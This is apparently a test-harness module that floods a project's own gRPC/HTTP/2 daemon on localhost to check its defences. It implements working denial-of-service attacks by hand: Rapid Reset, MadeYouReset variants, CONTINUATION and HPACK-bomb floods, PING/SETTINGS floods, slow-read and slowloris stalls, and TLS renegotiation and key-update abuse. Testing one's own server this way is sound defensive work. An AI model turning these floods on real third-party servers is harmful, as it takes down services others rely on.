"""What a hostile client does, a row each, and the process that does it: python3 -m rig.floods.

Every attacker holds a valid certificate, the worst case: a stranger gets no further than the handshake. A LOOP row is
one connection's worth, done again on a new connection until the time is up. A SLOW row is one connection that stands
still in some way; all of them run beside each other. A CROWD row opens as many connections as it likes.

`ends` is a pattern for how each connection must end, as _outcome() words it. No frame of a decent library helps here:
the bytes are made by hand, so that nothing on our side corrects them.
"""

import collections
import itertools
import json
import re
import select
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

import hpack

from rig import ROOT
from rig.frames import PREFACE, frame

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, PADDED = 1, 4, 8
INITIAL_WINDOW_SIZE = 4
CALM, CANCEL = 11, 8

LOOP, SLOW, CROWD = "loop", "slow", "crowd"
Flood = collections.namedtuple("Flood", "name attack ends kind counter rss_mib")
FLOODS = []


def flood(name, ends, kind=LOOP, counter=None, rss_mib=8):
    """A row. counter: the metric that must have moved; rss_mib: how much larger the daemon may be while it lasts."""
    def row(attack):
        FLOODS.append(Flood(name, attack, ends, kind, counter, rss_mib))
        return attack
    return row


FLOODED = {"ends": rf"GOAWAY {CALM} too_many_control_frames", "counter": "radioshop_control_frame_floods_total"}
RESETS = {"ends": rf"GOAWAY {CALM} too_many_resets", "counter": "radioshop_control_frame_floods_total"}


def u32(number):
    return struct.pack(">I", number)


def literal(name, value, indexed=False):
    """A header field that neither side's table changes (or, indexed, the peer's does)."""
    def text(data):
        if len(data) < 127:
            return bytes([len(data)]) + data
        length, out = len(data) - 127, b"\x7f"
        while length >= 128:
            out, length = out + bytes([length % 128 + 128]), length // 128
        return out + bytes([length]) + data
    return (b"\x40" if indexed else b"\x00") + text(name.encode()) + text(value.encode())


def request(path, *more, kind="application/grpc"):
    return b"".join(literal(name, value) for name, value in [
        (":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "localhost"),
        ("content-type", kind), ("te", "trailers"), *more])


CHECK, WATCH = "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch"
REFLECT = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
HEAD, FORM = request(CHECK), request(CHECK, kind="application/x-www-form-urlencoded")


def headers(stream, block=HEAD, end_headers=True, end_stream=False):
    return frame(HEADERS, END_HEADERS * end_headers | END_STREAM * end_stream, stream, block)


def message(stream, body=b"", end_stream=True):
    """A gRPC message in DATA frames."""
    data = b"\x00" + u32(len(body)) + body
    pieces = [data[at:at + 16384] for at in range(0, len(data), 16384)]
    return b"".join(frame(DATA, END_STREAM * (end_stream and piece is pieces[-1]), stream, piece) for piece in pieces)


def streams(first=1):
    return itertools.count(first, 2)


class Wire:
    """One connection: bytes out, and note of what came back."""

    def __init__(self, target, settings=b"", hello=True, acknowledge=True):
        self.target, self.socket = target, target.connect()
        self.socket.settimeout(target.patience)
        self.acknowledge, self.decoder, self.held = acknowledge, hpack.Decoder(), b""
        self.goaway, self.closed, self.resets, self.statuses = None, None, collections.Counter(), collections.Counter()
        self.data, self.greeted = 0, False
        if hello:
            self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    @property
    def over(self):
        return self.goaway is not None or self.closed is not None

    def greet(self):
        """Waits for the daemon's SETTINGS and acknowledges them."""
        while not self.greeted and not self.over:
            self.read(0.01)

    def send(self, data):
        try:
            self.socket.sendall(data)
        except (TimeoutError, socket.timeout):
            self.closed = "not read for too long"
        except OSError:
            self.closed = "cut"
        return not self.over

    def read(self, seconds=0.0):
        """What has come, or comes within the time."""
        end = time.monotonic() + seconds
        while self.closed is None:
            if not self.socket.pending() and not select.select([self.socket], [], [], max(0, end - time.monotonic()))[0]:
                return
            try:
                data = self.socket.recv(65536)
            except (ssl.SSLWantReadError, socket.timeout):
                continue
            except OSError:
                data = b""
            if not data:
                self.closed = "cut"
                return
            self.held += data
            self._frames()

    def _frames(self):
        while len(self.held) >= 9 and len(self.held) >= 9 + int.from_bytes(self.held[:3], "big"):
            length, kind, flags = int.from_bytes(self.held[:3], "big"), self.held[3], self.held[4]
            payload, self.held = self.held[9:9 + length], self.held[9 + length:]
            if kind == SETTINGS and not flags and self.acknowledge:
                self.greeted = self.send(frame(SETTINGS, 1, 0))
            elif kind == DATA:
                self.data += length
            elif kind == HEADERS:
                fields = dict(self.decoder.decode(payload))
                # Plain HTTP has no other.
                status = fields.get("grpc-status", fields.get(":status"))
                if status not in (None, "200"):
                    self.statuses[int(status)] += 1
            elif kind == RST_STREAM:
                self.resets[int.from_bytes(payload, "big")] += 1
            elif kind == GOAWAY:
                self.goaway = (int.from_bytes(payload[4:8], "big"), payload[8:].decode())

    def flood(self, make, frames=1, most=20000, batch=50, read=True):
        """make(i) gives bytes of so many frames; again and again until the daemon has had enough."""
        sent = 0
        while sent < most and self.send(b"".join(make(i) for i in range(sent, sent + batch))):
            sent += batch
            self.target.frames += batch * frames
            if read:
                self.read()
                if self.over:
                    break

    def wait(self, seconds):
        """Until the daemon ends it."""
        end = time.monotonic() + seconds
        while self.closed is None and time.monotonic() < end:
            self.read(0.1)

    def outcome(self):
        self.wait(1.0 if self.goaway is not None or self.closed is not None else 0.2)
        self.socket.close()
        if self.goaway is not None:
            return f"GOAWAY {self.goaway[0]} {self.goaway[1]}".strip()
        return self.closed or "open"


class Target:
    """Where the daemon is, who we are, and what the test has told us."""

    def __init__(self, port, ca, certificate, key, patience, **more):
        self.port, self.patience, self.more, self.frames = port, patience, more, 0
        self.context = ssl.create_default_context(cafile=ca)
        self.context.load_cert_chain(certificate, key)
        self.context.set_alpn_protocols(["h2"])
        self.files = [ca, certificate, key]

    def plain(self):
        return socket.create_connection(("127.0.0.1", self.port), timeout=self.patience)

    def connect(self):
        return self.context.wrap_socket(self.plain(), server_hostname="localhost")

    def client_hello(self):
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        try:
            self.context.wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
        except ssl.SSLWantReadError:
            return outgoing.read()
        raise AssertionError("a handshake without a server")


# ---- frames that carry nothing, as fast as they can be written ----

@flood("rapid reset", **RESETS)
def rapid_reset(wire):
    wire.flood(lambda i: headers(2 * i + 1) + frame(RST_STREAM, 0, 2 * i + 1, u32(CANCEL)), 2)


@flood("reset of calls at work", **RESETS)
def reset_at_work(wire):
    """The same with requests that the database has begun on."""
    head, body = request(wire.target.more["read_path"]), bytes.fromhex(wire.target.more["read"])
    wire.flood(lambda i: headers(2 * i + 1, head) + message(2 * i + 1, body) + frame(RST_STREAM, 0, 2 * i + 1, u32(CANCEL)), 3)


@flood("MadeYouReset: window overflow", **RESETS)
def overflow(wire):
    wire.acknowledge = False	# else over max_streams, which ends it before
    wire.flood(lambda i: headers(2 * i + 1) + frame(WINDOW_UPDATE, 0, 2 * i + 1, u32(2**31 - 1)), 2)


@flood("MadeYouReset: window update of 0", ends="GOAWAY 1")
def window_zero_update(wire):
    wire.flood(lambda i: headers(2 * i + 1) + frame(WINDOW_UPDATE, 0, 2 * i + 1, u32(0)), 2)


@flood("MadeYouReset: content-length lies", **RESETS)
def content_length(wire):
    wire.acknowledge = False	# else over max_streams, which ends it before
    head = request(CHECK, ("content-length", "5"))
    wire.flood(lambda i: headers(2 * i + 1, head) + frame(DATA, END_STREAM, 2 * i + 1, b"123"), 2)


@flood("MadeYouReset: connection header", **RESETS)
def connection_header(wire):
    wire.acknowledge = False	# else over max_streams, which ends it before
    head = request(CHECK, ("connection", "close"))
    wire.flood(lambda i: headers(2 * i + 1, head))


@flood("MadeYouReset: trailers without end", **RESETS)
def endless_trailers(wire):
    wire.acknowledge = False	# else over max_streams, which ends it before
    wire.flood(lambda i: headers(2 * i + 1) + headers(2 * i + 1, literal("x", "y")), 2)


@flood("MadeYouReset: over max_streams, settings not acknowledged", **RESETS)
def over_streams(wire):
    wire.acknowledge = False
    wire.flood(lambda i: headers(2 * i + 1))


@flood("over max_streams, settings acknowledged", ends="GOAWAY 1 .*max concurrent streams")
def over_streams_acknowledged(wire):
    wire.greet()
    wire.flood(lambda i: headers(2 * i + 1))


@flood("MadeYouReset: DATA after END_STREAM", ends="GOAWAY 5")
def data_after_end(wire):
    wire.flood(lambda i: headers(2 * i + 1, end_stream=True) + frame(DATA, 0, 2 * i + 1, b"zz"), 2)


@flood("MadeYouReset: PRIORITY on itself", ends="GOAWAY (1|11)")
def own_parent(wire):
    wire.flood(lambda i: headers(2 * i + 1) + frame(PRIORITY, 0, 2 * i + 1, u32(2 * i + 1) + b"\x10"), 2)


@flood("CONTINUATION", ends=f"GOAWAY {CALM} too_many_continuations", counter="radioshop_control_frame_floods_total")
def continuation(wire):
    wire.send(headers(1, end_headers=False))
    wire.flood(lambda i: frame(CONTINUATION, 0, 1, literal("x", "y")))


def bomb(wire, first_stream):
    """16 KiB of references to one 4000-byte field, in eight frames of one header block."""
    head = HEAD + literal("x-b", "A" * 4000, indexed=True)
    for stream in streams(first_stream):
        block = headers(stream, head + b"\xbe" * (16384 - len(head)), end_headers=False) + b"".join(
            frame(CONTINUATION, END_HEADERS * (i == 6), stream, b"\xbe" * 16384) for i in range(7))
        wire.target.frames += 8
        if not wire.send(block):
            return
        wire.read()


@flood("HPACK bomb", ends=f"GOAWAY {CALM} headers_too_large", counter="radioshop_control_frame_floods_total")
def hpack_bomb(wire):
    bomb(wire, 1)


@flood("HPACK bomb on refused streams", ends=f"GOAWAY {CALM} (headers_too_large|too_many_resets)",
       counter="radioshop_control_frame_floods_total")
def hpack_bomb_refused(wire):
    wire.acknowledge = False
    wire.send(b"".join(headers(stream) for stream in range(1, 201, 2)))
    bomb(wire, 201)


@flood("huge header list", ends=f"GOAWAY {CALM} headers_too_large", counter="radioshop_control_frame_floods_total")
def huge_headers(wire):
    more = b"".join(literal(f"x-{i}", "y" * 200) for i in range(500))
    pieces = [more[at:at + 16000] for at in range(0, len(more), 16000)]
    wire.flood(lambda i: headers(2 * i + 1, end_headers=False) + b"".join(
        frame(CONTINUATION, END_HEADERS * (piece is pieces[-1]), 2 * i + 1, piece) for piece in pieces), 8, batch=1)


@flood("SETTINGS", **FLOODED)
def settings(wire):
    wire.flood(lambda _: frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 4096)))


@flood("SETTINGS, answers not read", **FLOODED)
def settings_unread(wire):
    wire.flood(lambda _: frame(SETTINGS, 0, 0), read=False)


@flood("SETTINGS of 1000 entries", ends=f"GOAWAY {CALM} too_many_(settings|control_frames)",
       counter="radioshop_control_frame_floods_total")
def long_settings(wire):
    wire.flood(lambda _: frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 4096) * 1000), batch=5)


@flood("SETTINGS that shake 100 windows", **FLOODED)
def window_oscillation(wire):
    wire.send(b"".join(headers(stream) for stream in range(1, 201, 2)))
    entries = b"".join(struct.pack(">HI", INITIAL_WINDOW_SIZE, size) for size in (1, 2**31 - 1) * 15)
    wire.flood(lambda _: frame(SETTINGS, 0, 0, entries))


@flood("PING", ends=f"GOAWAY {CALM} too_many_pings", counter="radioshop_control_frame_floods_total")
def ping(wire):
    wire.flood(lambda i: frame(PING, 0, 0, struct.pack(">Q", i)))


@flood("PING, answers not read", ends=f"GOAWAY {CALM} too_many_pings|cut",
       counter="radioshop_control_frame_floods_total")
def ping_unread(wire):
    wire.flood(lambda i: frame(PING, 0, 0, struct.pack(">Q", i)), read=False)


@flood("PING answers nobody asked for", **FLOODED)
def ping_answers(wire):
    wire.flood(lambda i: frame(PING, 1, 0, struct.pack(">Q", i)))


@flood("empty DATA", **FLOODED)
def empty_data(wire):
    wire.send(headers(1))
    wire.flood(lambda _: frame(DATA, 0, 1))


@flood("empty DATA with padding", **FLOODED)
def empty_padded_data(wire):
    wire.send(headers(1))
    wire.flood(lambda _: frame(DATA, PADDED, 1, b"\x00"))


@flood("DATA of padding only", **FLOODED)
def padding(wire):
    wire.send(headers(1))
    wire.flood(lambda _: frame(DATA, PADDED, 1, b"\xff" + b"\x00" * 255))


@flood("PRIORITY", **FLOODED)
def priority(wire):
    wire.flood(lambda i: frame(PRIORITY, 0, 2 * (i % 1000) + 1, u32(2 * ((i + 7) % 1000) + 1) + b"\x10"))


@flood("WINDOW_UPDATE of 1", **FLOODED)
def window_updates(wire):
    wire.send(headers(1))
    wire.flood(lambda i: frame(WINDOW_UPDATE, 0, i % 2, u32(1)))


@flood("unknown frame types", **FLOODED)
def unknown(wire):
    wire.flood(lambda i: frame(10 + i % 245, i % 256, i % 3, b"x" * (i % 100)))


@flood("GOAWAY", **FLOODED)
def goaways(wire):
    wire.flood(lambda i: frame(GOAWAY, 0, 0, u32(0) + u32(0)))


@flood("PUSH_PROMISE from a client", ends="GOAWAY 1")
def push(wire):
    wire.flood(lambda i: frame(PUSH_PROMISE, END_HEADERS, 1, u32(2 * i + 2) + HEAD))


@flood("RST_STREAM of streams long closed", **FLOODED)
def closed_resets(wire):
    wire.send(headers(1) + message(1))
    wire.read(0.1)
    wire.flood(lambda _: frame(RST_STREAM, 0, 1, u32(CANCEL)))


# ---- standing still ----

@flood("connected, then silent", "cut", SLOW, "radioshop_handshakes_failed_total")
def silent(target):
    return _until_cut(target.plain(), target.patience)


@flood("ClientHello, a byte a tick", "cut", SLOW, "radioshop_handshakes_failed_total")
def slow_client_hello(target):
    return _until_cut(target.plain(), target.patience, target.client_hello())


@flood("no preface", "GOAWAY 4|cut", SLOW)
def no_preface(target):
    wire = Wire(target, hello=False, acknowledge=False)
    wire.wait(target.patience)
    return wire.outcome()


@flood("preface, a byte a tick", "GOAWAY 4|cut", SLOW)
def slow_preface(target):
    wire = Wire(target, hello=False, acknowledge=False)
    _dribble(wire, PREFACE + frame(SETTINGS, 0, 0), target)
    return wire.outcome()


@flood("SETTINGS never acknowledged", "GOAWAY 4 settings_not_acknowledged", SLOW, "radioshop_stalls_total")
def no_acknowledgement(target):
    wire = Wire(target, acknowledge=False)
    wire.wait(target.patience)
    return wire.outcome()


@flood("HEADERS never ended", f"GOAWAY {CALM} headers_too_slow", SLOW, "radioshop_control_frame_floods_total")
def endless_headers(target):
    wire = Wire(target)
    wire.greet()
    wire.send(headers(1, end_headers=False))
    wire.wait(target.patience)
    return wire.outcome()


@flood("request body, a byte a tick", r"status 4 x 1\b", SLOW)
def slow_body(target):
    wire = Wire(target)
    wire.greet()
    wire.send(headers(1, HEAD + literal("grpc-timeout", "99999999S")) + frame(DATA, 0, 1, b"\x00" + u32(1000)))
    _dribble(wire, b"", target, lambda: frame(DATA, 0, 1, b"\x00"))
    return _statuses([wire])


@flood("100 replies, windows shut", "open 0 .*(reset 8|status (4|8)) x", SLOW, "radioshop_stalls_total", rss_mib=48)
def shut_windows(target):
    return _readers(target, 0, None)


@flood("100 replies, windows opened by a byte a tick", "open 0 .*(reset 8|status (4|8)) x", SLOW,
       "radioshop_stalls_total", rss_mib=48)
def slow_windows(target):
    return _readers(target, 1, lambda wire, stream: frame(WINDOW_UPDATE, 0, stream, u32(1)))


@flood("export, window opened by a byte a tick", "open 0 .*reset 8 x 1", SLOW, "radioshop_stalls_total", rss_mib=16)
def slow_export(target):
    """A stream without a deadline: only the stall time can end it."""
    wire = Wire(target, struct.pack(">HI", INITIAL_WINDOW_SIZE, 1))
    wire.greet()
    wire.send(headers(1, request(target.more["export_path"])) + message(1, bytes.fromhex(target.more["export"])))
    end = time.monotonic() + target.patience
    while not wire.over and not wire.resets and time.monotonic() < end:
        wire.read(target.more["tick"])
        wire.send(frame(WINDOW_UPDATE, 0, 1, u32(1)))
    return _statuses([wire], [1])


@flood("socket never read", "cut", SLOW, "radioshop_stalls_total", rss_mib=16)
def unread_socket(target):
    """Windows wide open and a receive buffer that fills: the daemon's socket takes nothing any more."""
    plain = socket.socket()
    plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    plain.connect(("127.0.0.1", target.port))
    sock = target.context.wrap_socket(plain, server_hostname="localhost")
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 2**31 - 1)) + frame(
        SETTINGS, 1, 0) + frame(WINDOW_UPDATE, 0, 0, u32(2**31 - 65536)))
    for stream in range(1, 201, 2):
        sock.sendall(headers(stream, request(target.more["list_path"])) + message(stream, bytes.fromhex(target.more["list"])))
    end = time.monotonic() + target.patience
    while time.monotonic() < end:
        time.sleep(0.2)
        try:
            sock.send(frame(SETTINGS, 1, 0))	# the reset shows when something is written
        except OSError:
            return "cut"
    return "open"


def _until_cut(sock, patience, dribble=b""):
    end, sock_at = time.monotonic() + patience, 0
    while time.monotonic() < end:
        try:
            if sock_at < len(dribble):
                sock.send(dribble[sock_at:sock_at + 1])
                sock_at += 1
            if select.select([sock], [], [], 0.1)[0] and not sock.recv(4096):
                return "cut"
        except OSError:
            return "cut"
    return "open"


def _dribble(wire, data, target, again=None):
    """A byte of data, or again() each time, until the daemon has had enough."""
    end, at = time.monotonic() + target.patience, 0
    while not wire.over and not wire.statuses and time.monotonic() < end:
        if again is not None:
            wire.send(again())
        elif at < len(data) - 1:
            wire.send(data[at:at + 1])
            at += 1
        wire.read(target.more["tick"])


def _readers(target, window, opener):
    """A hundred calls with large replies whose client does not take them."""
    wire = Wire(target, struct.pack(">HI", INITIAL_WINDOW_SIZE, window))
    wire.greet()
    numbers = list(range(1, 201, 2))
    for number in numbers:
        wire.send(headers(number, request(target.more["list_path"])) + message(number, bytes.fromhex(target.more["list"])))
    end = time.monotonic() + target.patience
    while not wire.over and sum(wire.resets.values()) + sum(wire.statuses.values()) < 100 and time.monotonic() < end:
        wire.read(target.more["tick"])
        if opener is not None:
            wire.send(b"".join(opener(wire, number) for number in numbers[:10]))
    return _statuses([wire], numbers)


def _statuses(wires, asked=()):
    """"open 3, status 4 x 97, reset 8 x 2": what became of the calls of all connections."""
    statuses, resets = collections.Counter(), collections.Counter()
    for wire in wires:
        wire.read()
        statuses += wire.statuses
        resets += wire.resets
        wire.socket.close()
    # A reset without an error follows a status that came before the request was done.
    resets.pop(0, None)
    left = max(0, len(asked) - sum(statuses.values()) - sum(resets.values()))
    ended = [wire.goaway for wire in wires if wire.goaway]
    return ", ".join([f"open {left} of {len(asked)}", *(f"status {code} x {n}" for code, n in sorted(statuses.items())),
                      *(f"reset {code} x {n}" for code, n in sorted(resets.items())),
                      *(f"GOAWAY {code} {text}" for code, text in ended),
                      f"connections {sum(w.closed is None for w in wires)} of {len(wires)}"])


# ---- many at once ----

@flood("handshakes", "handshakes [0-9]{2,}", CROWD, rss_mib=16)
def handshakes(target, until):
    done = failed = 0
    while time.monotonic() < until:
        try:
            target.connect().close()
            done += 1
        except OSError:
            failed += 1
    target.frames += done
    return f"handshakes {done}, refused {failed}"


@flood("handshakes broken off", "handshakes [0-9]{2,}", CROWD, "radioshop_handshakes_failed_total", rss_mib=16)
def broken_handshakes(target, until):
    """The daemon has signed; the client leaves."""
    done, hello = 0, target.client_hello()
    while time.monotonic() < until:
        try:
            with target.plain() as sock:
                sock.sendall(hello)
                sock.recv(4096)
            done += 1
        except OSError:
            pass
    target.frames += done
    return f"handshakes {done}"


@flood("renegotiation and TLS 1.2", "refused", CROWD, "radioshop_handshakes_failed_total")
def renegotiation(target, until):
    """TLS 1.3 has no renegotiation, and a client that speaks an older version to get it is refused."""
    ca, certificate, key = target.files
    words = ["openssl", "s_client", "-connect", f"127.0.0.1:{target.port}", "-CAfile", ca, "-cert", certificate, "-key", key,
             "-alpn", "h2", "-tls1_2"]
    done = subprocess.run(words, input="R\n" * 100, capture_output=True, text=True, timeout=max(5, until - time.monotonic() + 5),
                          check=False)
    return "refused" if re.search("alert protocol version|wrong version", done.stderr) else done.stderr[-500:]


@flood("TLS key updates", "refused", CROWD)
def key_updates(target, _until):
    """What TLS 1.3 has instead of renegotiation: each asks for new keys. Without HTTP/2 they get nowhere for long."""
    ca, certificate, key = target.files
    words = ["openssl", "s_client", "-connect", f"127.0.0.1:{target.port}", "-CAfile", ca, "-cert", certificate, "-key", key,
             "-alpn", "h2"]
    with subprocess.Popen(words, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as client:
        end = time.monotonic() + target.patience
        try:
            while time.monotonic() < end and client.poll() is None:
                client.stdin.write(b"K\n")
                client.stdin.flush()
                target.frames += 1
                time.sleep(0.0005)
            ended = client.poll() is not None
        except BrokenPipeError:
            ended = True
        client.kill()
        try:
            client.stdin.close()
        except BrokenPipeError:
            pass
    return "refused" if ended else "served"


@flood("TLS records of one byte", "open 0 of 1, status 0 x 1", CROWD)
def tiny_records(target, until):
    """Slow and odd, but a call: it is answered."""
    wire = Wire(target)
    wire.greet()
    wire.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for byte in headers(1, request(target.more["read_path"])) + message(1, bytes.fromhex(target.more["read"])):
        wire.socket.send(bytes([byte]))
        target.frames += 1
    wire.wait(1)
    # As an attack: records as small and as many as they can be.
    other = Wire(target)
    other.send(headers(1))
    while time.monotonic() < until and not other.over:
        other.flood(lambda _: frame(DATA, 0, 1, b"\x00"), batch=1, most=100)
    other.socket.close()
    return _statuses([wire], [1])


@flood("connections over the limit", "refused [0-9]{2,}", CROWD, "radioshop_connections_refused_total", rss_mib=24)
def crowd(target, until):
    """Two hundred at once, again and again: those over the limit are closed as soon as they are there."""
    refused = 0
    while time.monotonic() < until or not refused:
        crowded = [target.plain() for _ in range(200)]
        ended = select.select(crowded, [], [], 0.3)[0]
        time.sleep(0.2)
        refused += len(ended)
        for sock in crowded:
            sock.close()
        target.frames += 200
    return f"refused {refused}"


def connections(target, count):
    wires = []
    for _ in range(count):
        try:
            wires.append(Wire(target))
            wires[-1].greet()
        except OSError:
            break
    return wires


def _hold(wires, until, asked):
    """Keeps all open until the time is up, and until something was refused."""
    end = time.monotonic() + wires[0].target.patience
    while time.monotonic() < until or not any(wire.statuses or wire.over for wire in wires) and time.monotonic() < end:
        for wire in wires:
            wire.read()
        time.sleep(0.05)
    return _statuses(wires, asked)


@flood("half-open calls, 100 on each of 40 connections", r"open 0 of 4000, .*status 4 x", CROWD, rss_mib=48)
def half_open(target, until):
    wires = connections(target, 40)
    for wire in wires:
        wire.send(b"".join(headers(stream) for stream in range(1, 201, 2)))
        target.frames += 100
    deadline = time.monotonic() + target.patience
    while time.monotonic() < deadline and any(not w.over and sum(w.statuses.values()) < 100 for w in wires):
        for wire in wires:
            wire.read()
        time.sleep(0.05)
    return _statuses(wires, range(100 * len(wires)))


def _refused(target, wires, body):
    """
    100 calls on each that their headers refuse, in a form of plain HTTP: those are answered when the request has ended, which it
    never does.
    """
    for wire in wires:
        for stream in range(1, 201, 2):
            wire.send(headers(stream, FORM) + body(stream))
            wire.read()
            target.frames += 2
    deadline = time.monotonic() + target.patience
    while time.monotonic() < deadline and any(not w.over and sum(w.statuses.values()) < 100 for w in wires):
        for wire in wires:
            wire.read()
        time.sleep(0.05)
    return _statuses(wires, range(100 * len(wires)))


@flood("refused forms never ended, 100 on each of 100 connections", "open 0 of 10000, status 415 x 10000,", CROWD, rss_mib=48)
def refused_forms(target, _until):
    return _refused(target, connections(target, 100), lambda stream: frame(DATA, 0, stream, b"x"))


@flood("refused forms of 240 kB never ended, 100 on each of 4 connections", "open 0 of 400, status 415 x 400,", CROWD)
def large_refused_forms(target, _until):
    """Nobody keeps what is refused: 96 MB come and leave no trace."""
    return _refused(target, connections(target, 4), lambda stream: frame(DATA, 0, stream, bytes(16000)) * 15)


@flood("Watch without deadline, 100 on each of 100 connections", r"status 8 x [0-9]{2,}", CROWD, rss_mib=56)
def watches(target, until):
    wires = connections(target, 100)
    head = request(WATCH)
    for wire in wires:
        wire.send(b"".join(headers(stream, head) + message(stream) for stream in range(1, 201, 2)))
        wire.read()
        target.frames += 100
    return _hold(wires, until, range(100 * len(wires)))


@flood("large requests never finished, on 60 connections", r"status 8 x [0-9]{2,}", CROWD, rss_mib=48)
def unfinished(target, until):
    """Each connection keeps up to 16 MiB on the daemon's side; all of them want about a gigabyte."""
    wires = connections(target, 60)
    head, piece = request(target.more["import_path"], ("grpc-timeout", "60S")), b"\x00" * 16000
    for wire in wires:
        wire.send(b"".join(headers(stream, head) + frame(DATA, 0, stream, b"\x00" + u32(4 << 20)) for stream in range(1, 9, 2)))
    for _ in range(60):
        for wire in wires:
            # Within the windows: the daemon takes the bytes at once, so a round later they are open again.
            wire.send(b"".join(frame(DATA, 0, stream, piece) for stream in range(1, 9, 2) if wire.closed is None))
            target.frames += 4
            wire.read()
        if any(wire.statuses for wire in wires):
            break
    return _hold(wires, until, range(4 * len(wires)))


@flood("reflection, 100 questions at once, answers not read", r"status 8 x|reset 8 x", CROWD, rss_mib=48)
def reflection(target, until):
    """Some 60 bytes ask for every file of the contract."""
    wires, question = connections(target, 20), bytes.fromhex(target.more["reflect"])
    for wire in wires:
        for stream in range(1, 41, 2):
            wire.send(headers(stream, request(REFLECT)) + message(stream, question, False) * 100)
            target.frames += 100
    return _hold(wires, until, range(20 * len(wires)))


@flood("writes that wait for a lock, 100 on each of 4 connections", r"status 8 x [0-9]{2,}", CROWD, rss_mib=24)
def waiting_writes(target, until):
    """The test holds the lock. They fill what a principal may have of the queue, and no more."""
    wires, bodies = connections(target, 4), iter(target.more["writes"])
    for wire in wires:
        wire.send(b"".join(headers(stream, request(target.more["write_path"])) + message(stream, bytes.fromhex(next(bodies)))
                           for stream in range(1, 201, 2)))
        target.frames += 100
    return _hold(wires, until, range(100 * len(wires)))


# ---- the process ----

def _loop(row, target, until):
    """Outcomes of connection after connection, and how long each lasted."""
    outcomes, took = collections.Counter(), []
    while time.monotonic() < until:
        began = time.monotonic()
        try:
            wire = Wire(target)
            row.attack(wire)
            outcomes[wire.outcome()] += 1
        except OSError:
            outcomes["refused"] += 1
        took.append(time.monotonic() - began)
    return dict(outcomes), sorted(took)[len(took) // 2]


def _slow(rows, target):
    """All slow rows beside each other: {name: [outcome, seconds]}."""
    results = {}

    def one(row):
        began = time.monotonic()
        try:
            outcome = row.attack(target)
        except OSError as error:
            outcome = f"refused: {error}"
        results[row.name] = [outcome, time.monotonic() - began]
    threads = [threading.Thread(target=one, args=(row,)) for row in rows]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return results


def main():
    """One JSON order on standard input, one JSON answer."""
    order = json.loads(sys.stdin.readline())
    target = Target(**order["target"])
    print("go", flush=True)
    if order["name"] == SLOW:
        print(json.dumps(_slow([row for row in FLOODS if row.kind == SLOW], target)))
        return
    row = next(row for row in FLOODS if row.name == order["name"])
    until = time.monotonic() + order["seconds"]
    if row.kind == LOOP:
        outcomes, took = _loop(row, target, until)
    else:
        began = time.monotonic()
        outcomes = {row.attack(target, until): 1}
        took = time.monotonic() - began
    print(json.dumps({"outcomes": outcomes, "took": took, "frames": target.frames}))


def start(name, seconds, target, prefix=()):
    """The attacker, which has begun; its answer is the one line on its standard output."""
    process = subprocess.Popen([*prefix, "/usr/bin/python3", "-m", "rig.floods"], cwd=ROOT / "tests", text=True,
                               stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    process.stdin.write(json.dumps({"name": name, "seconds": seconds, "target": target}) + "\n")
    process.stdin.flush()
    assert process.stdout.readline() == "go\n", "the attacker does not begin"
    return process


if __name__ == "__main__":
    main()
